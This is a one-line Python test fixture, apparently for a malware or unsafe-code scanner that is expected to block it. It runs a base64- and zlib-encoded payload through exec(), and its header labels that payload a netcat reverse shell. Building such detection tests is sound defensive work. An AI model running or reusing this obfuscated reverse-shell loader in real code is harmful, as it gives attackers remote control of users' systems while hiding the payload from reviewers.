# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/netcat_exec.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJxTVshLLUlOLFHQTVXISMxLKVbQT8rM0y/OUCjJVyjJSAVJl+cXZetxZeYW5BeVKBSXJhUU5SenFhdzcSHYekWleRrRSnnJSjoKSrqpIBJqDohpZGCsZ6BnaGisZwrimgCBUqyOQnJGanK2rVtiTnGqJgDmZimc')))
